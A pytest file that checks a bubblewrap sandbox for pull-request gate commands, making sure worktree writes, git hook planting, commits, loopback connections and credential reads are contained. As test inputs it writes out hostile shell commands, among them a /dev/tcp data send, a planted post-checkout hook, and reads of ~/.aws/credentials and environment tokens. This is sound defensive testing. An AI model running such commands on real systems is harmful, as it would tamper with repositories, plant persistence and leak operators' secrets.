"""A PR's gate runs code from the change under review: the attempts it could make to change the
worktree, reach outside the repository, use the network or read the operator's credentials, and
what the sandbox leaves of them (nothing). Real bubblewrap, real git, a real loopback listener."""

from __future__ import annotations

import socket
import subprocess
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from control_center.harness import sandbox
from control_center.harness.tools.shell import UNSANDBOXED_NOTE, run_gate

needs_bwrap = pytest.mark.skipif(
    not sandbox.gate_sandbox_available(), reason="bubblewrap cannot build the gate sandbox here"
)


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def pr_worktree(tmp_path: Path) -> Path:
    """A repository with a linked worktree (how review spaces check out a PR)."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    (repo / "app.py").write_text("print('hi')\n")
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "init")
    wt = tmp_path / "wt"
    _git(repo, "worktree", "add", "-q", str(wt), "-b", "pr")
    return wt


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on the host's loopback that records every connection it accepts."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                seen.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield srv.getsockname()[1], seen
    stop.set()
    thread.join(2)
    srv.close()


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and ".git" not in p.parts
    }


@needs_bwrap
def test_a_gate_that_writes_everywhere_changes_nothing(
    pr_worktree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: tuple[int, list[bytes]]
) -> None:
    port, seen = listener
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    outside = tmp_path / "outside.txt"  # next to the repository
    var_tmp = Path("/var/tmp") / f"cc-gate-escape-{uuid.uuid4().hex}"  # not under /tmp at all
    git_dir = Path(_git(pr_worktree, "rev-parse", "--git-common-dir"))
    before = _snapshot(pr_worktree)
    head_before = _git(pr_worktree, "rev-parse", "HEAD")
    attack = "; ".join(
        [
            "echo pwned > app.py",
            "echo new > planted.py",
            "rm -f app.py.orig",
            "mkdir -p .pytest_cache && echo cache > .pytest_cache/x",
            f"echo out > {outside}",
            f"echo out > {var_tmp}",
            "echo key > $HOME/.ssh_planted",
            f"echo hook > {git_dir}/hooks/post-checkout",
            "git -c user.name=x -c user.email=x@x commit -qam evil",
            # bash's /dev/tcp: the host's loopback listener must not see this.
            f"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'",
            "cat app.py",
            "exit 0",
        ]
    )
    outcome = run_gate(attack, pr_worktree, 60.0)
    try:
        assert outcome.sandboxed
        assert outcome.status == "passed", outcome.detail
        assert "pwned" in outcome.detail  # the writes happened, on the throw-away layer
        assert _snapshot(pr_worktree) == before
        assert not (pr_worktree / "planted.py").exists()
        assert not (pr_worktree / ".pytest_cache").exists()
        assert not outside.exists()
        assert not var_tmp.exists()
        assert not (home / ".ssh_planted").exists()
        assert not (git_dir / "hooks" / "post-checkout").exists()
        assert _git(pr_worktree, "rev-parse", "HEAD") == head_before
        assert _git(pr_worktree, "status", "--porcelain") == ""
        assert seen == []  # no connection reached the host
    finally:
        var_tmp.unlink(missing_ok=True)


@needs_bwrap
def test_a_gate_declared_with_network_can_connect(
    pr_worktree: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, seen = listener
    outcome = run_gate(f"bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}'", pr_worktree, 30.0, network=True)
    assert outcome.status == "passed", outcome.detail
    for _ in range(50):
        if seen:
            break
        threading.Event().wait(0.05)
    assert seen
    assert seen[0].startswith(b"hello")


@needs_bwrap
def test_test_runners_can_write_caches_and_read_the_repository(pr_worktree: Path) -> None:
    outcome = run_gate(
        "mkdir -p __pycache__ && echo x > __pycache__/c && git log --oneline | grep -q init && "
        "touch $HOME/.cache_ok && test -w /tmp",
        pr_worktree,
        30.0,
    )
    assert outcome.status == "passed", outcome.detail
    assert not (pr_worktree / "__pycache__").exists()


@needs_bwrap
def test_the_private_home_hides_the_operators_files(
    pr_worktree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("aws_secret_access_key=abc\n")
    monkeypatch.setenv("HOME", str(home))
    outcome = run_gate("cat $HOME/.aws/credentials", pr_worktree, 30.0)
    assert outcome.status == "failed"
    assert "abc" not in outcome.detail


def test_credentials_in_the_environment_do_not_reach_a_gate(
    pr_worktree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-secret-1")
    monkeypatch.setenv("GH_TOKEN", "ghp-secret-2")
    monkeypatch.setenv("CC_HARMLESS", "visible")
    outcome = run_gate("env", pr_worktree, 30.0)
    assert "visible" in outcome.detail
    assert "sk-ant-secret-1" not in outcome.detail
    assert "ghp-secret-2" not in outcome.detail
    allowed = run_gate("env", pr_worktree, 30.0, env_allow=("GH_TOKEN",))
    assert "ghp-secret-2" in allowed.detail
    assert "sk-ant-secret-1" not in allowed.detail


def test_without_bubblewrap_the_gate_says_it_ran_unsandboxed(
    pr_worktree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "gate_argv", lambda *a, **k: None)
    before = _snapshot(pr_worktree)
    outcome = run_gate("echo pwned > app.py; exit 0", pr_worktree, 30.0)
    assert outcome.status == "passed"
    assert not outcome.sandboxed
    assert outcome.detail.startswith(UNSANDBOXED_NOTE)
    # Even then the worktree itself is untouched: the gate ran on a scratch copy.
    assert _snapshot(pr_worktree) == before


def _processes_with(argument: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                argv = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if argument.encode() in argv:
                found.append(int(entry.name))
    return found


def test_a_timeout_kills_the_whole_process_group(pr_worktree: Path) -> None:
    # A background grandchild with a recognisable argument; it must be gone after the timeout.
    unique = f"31.{uuid.uuid4().int % 10_000:04d}"
    outcome = run_gate(f"sleep {unique} & sleep 30", pr_worktree, 0.5)
    assert outcome.status == "not_run"
    assert "timed out" in outcome.detail
    assert _processes_with(unique) == []
